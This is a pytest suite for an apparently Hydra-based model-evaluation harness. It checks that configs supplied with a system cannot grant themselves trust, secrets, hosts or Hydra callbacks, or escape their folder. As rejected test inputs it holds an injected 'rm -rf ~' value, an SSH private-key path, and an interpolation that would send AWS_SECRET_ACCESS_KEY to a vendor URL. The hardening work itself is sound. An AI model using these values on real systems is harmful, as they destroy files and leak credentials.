from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from served_pictures import write_card

from harness.commands.run import run_composed
from harness.errors import HarnessError
from harness.models.model import RunSettings
from harness.study.assembly import open_model
from harness.study.compose import compose_choices, compose_study
from harness.study.own_configs import require_plain


def _configs(folder: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


@pytest.fixture
def vendors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Cards of two systems, `acme` behind an address and `loud` in a program."""
    monkeypatch.setenv("HARNESS_CARDS", str(tmp_path / "cards"))
    card = write_card(tmp_path, "https://acme.test/v1")
    program = {**card, "name": "loud", "kind": "command", "output": {}, "connection": {"command": ["true"]}}
    chat = {**card, "name": "words", "kind": "chat", "output": {}}
    chat["connection"] = {"url": "https://acme.test/v1/chat/completions", "model": "words-2026-01-01"}
    for other in (program, chat):
        path = tmp_path / "cards" / "models" / str(other["name"]) / "card.yaml"
        path.parent.mkdir()
        path.write_text(yaml.safe_dump(other))
    return tmp_path


GRANTS = [
    ("loud", {"trust": True}, "trust", "model.trust=true"),
    ("loud", {"trust": 1}, "trust", "model.trust=1"),
    ("loud", {"trust": "yes"}, "trust", "model.trust=yes"),
    ("loud", {"environment": ["AWS_KEY"]}, "environment", "'model.environment=[AWS_KEY]' model.trust=true"),
    ("acme", {"allow_hosts": ["10.0.0.1", "nas"]}, "allow_hosts", "'model.allow_hosts=[10.0.0.1,nas]'"),
    ("acme", {"ca_file": "own.pem"}, "ca_file", "model.ca_file=own.pem"),
    ("acme", {"environment": ["AWS_KEY"]}, "environment", "'model.environment=[AWS_KEY]'"),
    ("words", {"prompt": "~/.ssh/id_rsa"}, "prompt", "'model.prompt=~/.ssh/id_rsa'"),
    ("words", {"allow_hosts": ["x]; rm -rf ~"]}, "allow_hosts", "'model.allow_hosts=[x]; rm -rf ~]'"),
]


@pytest.mark.parametrize(("name", "options", "option", "said"), GRANTS)
def test_what_a_config_grants_a_system_does_not_count(
    vendors: Path, name: str, options: dict[str, Any], option: str, said: str
) -> None:
    """Who runs the study says it on the command line; a config may come with the system."""
    own = _configs(vendors / "own", {"model/vendor.yaml": yaml.safe_dump({"name": name, **options})})
    with pytest.raises(HarnessError) as refused:
        compose_study(["dataset=simulated_faces", "model=vendor"], own)
    assert str(refused.value).startswith(f"model {name}: {option} is in a config, but ")
    assert str(refused.value).endswith(f"if you want it, say so on the command line: {said}")
    assert shlex.split(str(refused.value).partition("command line: ")[2])[0].startswith(f"model.{option}=")
    with pytest.raises(HarnessError, match=f"model {name}: {option} is in a config"):
        compose_choices("simulated_faces", "vendor", {}, own)
    with pytest.raises(HarnessError, match=f"model {name}: {option} is in a config"):
        compose_study(["dataset=simulated_faces", "model=vendor", f"model.{option}.0=x"], own)


@pytest.mark.parametrize(
    ("name", "said", "value"),
    [
        ("loud", "model.trust=true", True),
        ("loud", "model.environment=[ACME_KEY]", ["ACME_KEY"]),
        ("acme", "model.allow_hosts=[10.0.0.1]", ["10.0.0.1"]),
        ("acme", "model.ca_file=own.pem", "own.pem"),
        ("words", "model.prompt=own.md", "own.md"),
    ],
)
@pytest.mark.parametrize(
    "text", ["", "trust: true\nallow_hosts: [nas]\nenvironment: [AWS_KEY]\nca_file: evil.pem"]
)
def test_who_runs_the_study_grants_it_whatever_a_config_says(
    vendors: Path, name: str, said: str, value: object, text: str
) -> None:
    own = _configs(vendors / "own", {"model/vendor.yaml": f"name: {name}\n"})
    option = said.removeprefix("model.").partition("=")[0]
    for override in (said, f"+{said}", f"++{said}"):
        composed = compose_study(["dataset=simulated_faces", "model=vendor", override], own)
        assert composed.model.options[option] == value
    composed = compose_choices("simulated_faces", "vendor", {"model": {option: value}}, own)
    assert composed.model.options[option] == value
    if text:
        _configs(own, {"model/vendor.yaml": f"name: {name}\n{option}: [evil]\n"})
        assert compose_study(["dataset=simulated_faces", "model=vendor", said], own).model.options[option] == value


def test_what_grants_nothing_may_stand_in_a_config(vendors: Path) -> None:
    text = "name: acme\nallow_hosts: []\nca_file: null\nenvironment: []\n"
    own = _configs(vendors / "own", {"model/vendor.yaml": text})
    composed = compose_study(["dataset=simulated_faces", "model=vendor"], own)
    assert composed.model.options == {"allow_hosts": [], "ca_file": None, "environment": []}
    _configs(own, {"model/vendor.yaml": "name: loud\ntrust: false\n"})
    assert compose_study(["dataset=simulated_faces", "model=vendor"], own).model.options == {"trust": False}


def test_what_is_granted_to_a_sweep_is_dropped_where_a_kind_has_no_use_for_it(vendors: Path) -> None:
    granted = {"allow_hosts": ["nas"], "environment": ["ACME_KEY"], "trust": True, "prompt": "own.md"}
    opened = open_model("acme", granted, RunSettings(seed=0))
    assert opened.options.model_dump(include=set(granted)) == {"allow_hosts": ("nas",)}
    assert opened.options.environment == ("ACME_KEY",)  # type: ignore[attr-defined]
    assert open_model("majority", granted, RunSettings(seed=0)).options.model_dump() == {}
    with pytest.raises(HarnessError, match=r"model majority: allow_host"):
        open_model("majority", {"allow_host": ["nas"]}, RunSettings(seed=0))


REFERRING = "name: loud\ntrust: ${checks.enabled}\n"
"""Trust that shows only once the config is composed."""


def test_trust_that_a_config_takes_from_another_choice_is_found(
    vendors: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    own = _configs(vendors / "own", {"model/vendor.yaml": REFERRING})
    with pytest.raises(HarnessError, match="model loud: trust is in a config"):
        compose_study(["dataset=simulated_faces", "model=vendor"], own)
    compose_choices("simulated_faces", "vendor", {"checks": {"enabled": False}}, own)
    _configs(own, {"model/vendor.yaml": REFERRING.replace("checks", "tracking")})
    with pytest.raises(HarnessError, match="model loud: trust is in a config"):
        compose_choices("simulated_faces", "vendor", {"tracking": {"enabled": True}}, own)
    code = run_composed(
        ["--config-dir", str(own), "dataset=simulated_faces", "model=vendor", f"out={vendors / 'run'}"]
    )
    assert code == 2
    assert "model loud: trust is in a config" in " ".join(capsys.readouterr().err.split())


@pytest.mark.parametrize("sweep", [[], ["-m", "seed=1,2", "hydra.sweep.dir=sweep"]])
def test_a_config_of_a_whole_study_grants_nothing_either(
    vendors: Path, sweep: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(vendors)
    text = "defaults: [run, _self_]\nmodel: {name: acme, allow_hosts: [127.0.0.1]}\n"
    own = _configs(vendors / "own", {"nightly.yaml": text})
    named = ["--config-dir", str(own), "-cn", "nightly", "dataset=simulated_faces", "model=majority"]
    assert run_composed([*named, *sweep, f"out={vendors / 'run'}"]) == 2
    assert "model acme: allow_hosts is in a config" in " ".join(capsys.readouterr().err.split())


def test_a_config_in_a_nested_or_linked_folder_is_checked_too(tmp_path: Path) -> None:
    """Hydra also reads what the defaults of a config name."""
    folder = _configs(tmp_path / "own", {"model/vendor.yaml": "defaults: [deep/inner@_here_]\n"})
    _configs(tmp_path / "elsewhere", {"inner.yaml": "url: ${oc.env:KEY}\n"})
    (folder / "model" / "deep").symlink_to(tmp_path / "elsewhere")
    (folder / "model" / "again").symlink_to(folder / "model")  # leads back: it must end
    with pytest.raises(HarnessError, match=r"deep/inner\.yaml: '\$\{oc\.env:KEY\}' is computed"):
        require_plain(folder)
    (folder / "model" / "deep").unlink()
    _configs(folder, {"model/deep/inner.yaml": "url: ${oc.env:KEY}\n"})
    with pytest.raises(HarnessError, match=r"deep/inner\.yaml: '\$\{oc\.env:KEY\}' is computed"):
        require_plain(folder)


def test_the_defaults_of_a_config_stay_in_its_folder(tmp_path: Path) -> None:
    _configs(tmp_path, {"vendor.yaml": "name: acme\n"})
    own = _configs(tmp_path / "own", {"model/vendor.yaml": "defaults: ['../../vendor@_here_']\n"})
    with pytest.raises(HarnessError, match=r"vendor\.yaml: its defaults lead out of the folder"):
        require_plain(own)


@pytest.mark.parametrize(
    "text",
    [
        "# @package hydra.callbacks\none: {_target_: vendor.Callback}",
        "# @package _global_\nhydra: {callbacks: {one: {_target_: vendor.Callback}}}",
        "defaults: [inner@hydra.callbacks.one]",
    ],
)
def test_a_config_cannot_have_hydra_call_something(tmp_path: Path, text: str) -> None:
    _configs(tmp_path, {"model/vendor.yaml": text})
    with pytest.raises(HarnessError, match=r"vendor\.yaml: it sets what Hydra itself does"):
        require_plain(tmp_path)


@pytest.mark.parametrize("name", ["hydra/config.yaml", "hydra/launcher/basic.yaml", "hydra/sweeper/basic.yaml"])
def test_a_config_cannot_take_the_place_of_one_of_hydras_own(tmp_path: Path, name: str) -> None:
    """These are looked for in the user's folder before Hydra's."""
    _configs(tmp_path, {name: "callbacks: {one: {_target_: vendor.Callback}}"})
    with pytest.raises(HarnessError, match=r"\.yaml: it sets what Hydra itself does"):
        require_plain(tmp_path)


@pytest.mark.parametrize(
    ("group", "message"),
    [("model", "the config of a system sets the options of the system"), ("hydra", "sets what Hydra itself does")],
)
def test_a_config_is_checked_by_each_of_its_paths(tmp_path: Path, group: str, message: str) -> None:
    """What a study may say, a system may not, and Hydra finds it by either path."""
    own = _configs(tmp_path / "own", {"zoo/deep/vendor.yaml": "# @package _global_\ndataset: {root: /home}\n"})
    require_plain(own)
    (own / group).mkdir()
    for target in (own / "zoo" / "deep", own / "zoo", own):
        (own / group / "link").symlink_to(target)
        with pytest.raises(HarnessError, match=rf"{group}/link/.*vendor\.yaml: .*{message}"):
            require_plain(own)
        (own / group / "link").unlink()


def test_links_that_multiply_come_to_an_end(tmp_path: Path) -> None:
    for number in range(30):
        folder = tmp_path / "own" / f"{number}"
        folder.mkdir(parents=True)
        for link in "ab":
            (folder / link).symlink_to(tmp_path / "own" / f"{number + 1}")
    _configs(tmp_path / "own", {"30/last.yaml": "[no mapping]"})
    with pytest.raises(HarnessError, match=r"last\.yaml: not a config"):
        require_plain(tmp_path / "own")


@pytest.mark.parametrize(
    "text",
    [
        "url: https://acme.test/${oc.env:AWS_SECRET_ACCESS_KEY}",
        "url: ${oc.${part}:AWS_SECRET_ACCESS_KEY}\npart: env",
        "inner: [{deep: '${ oc.env : HOME }'}]",
        "url: '${oc.decode:${text}}'",
        "model: '${oc.create:{name: predictions, trust: true}}'",
        "defaults: ['${oc.env:HOME}@_here_']",
        "url: ${hydra:runtime.cwd}",
    ],
)
def test_a_config_cannot_read_the_environment(tmp_path: Path, text: str) -> None:
    """The url of a config is sent to whoever wrote it."""
    _configs(tmp_path, {"vendor.yaml": text})
    with pytest.raises(HarnessError, match=r"vendor\.yaml: .* is computed, by which a config could read"):
        require_plain(tmp_path)


def test_a_config_may_name_other_keys(tmp_path: Path) -> None:
    _configs(tmp_path, {"model/vendor.yaml": "title: '${model.name}: ${.list[0]}, ${measure.${kind}}'\n"})
    require_plain(tmp_path)


@pytest.mark.parametrize(
    "text",
    [
        "# @package _global_\ntracking: {uri: https://evil.test}",
        "# @package dataset\nroot: /home",
        "defaults: [evil@_global_]",
        "defaults: [/evil]",
        "defaults: [{override /dataset: evil}]",
        "defaults: ['${evil}']",
    ],
)
def test_the_config_of_a_system_sets_nothing_else(tmp_path: Path, text: str) -> None:
    """Not which pictures it is sent, nor where results go."""
    _configs(tmp_path, {"study.yaml": text})
    require_plain(tmp_path)
    _configs(tmp_path, {"model/deep/vendor.yaml": text})
    with pytest.raises(HarnessError, match=r"vendor\.yaml: the config of a system sets the options of the system"):
        require_plain(tmp_path)


@pytest.mark.parametrize(
    "arguments",
    [
        ["--config-dir", "{own}"],
        ["--config-dir={own}"],
        ["-cd", "{own}"],
        ["--config-path", "{own}"],
        ["-cp", "{own}"],
        ["hydra.searchpath=[file://{own}]"],
        ["hydra.searchpath=[{own}]"],
        ["+hydra.searchpath=['{own}', pkg://other]"],
    ],
)
def test_every_way_to_name_a_folder_of_configs_has_it_checked(tmp_path: Path, arguments: list[str]) -> None:
    own = _configs(tmp_path / "own", {"model/vendor.yaml": "url: ${oc.env:HOME}\n"})
    given = [argument.replace("{own}", str(own)) for argument in arguments]
    with pytest.raises(HarnessError, match=r"vendor\.yaml: .* is computed"):
        run_composed([*given, "dataset=simulated_faces", "model=vendor", f"out={tmp_path / 'run'}"])
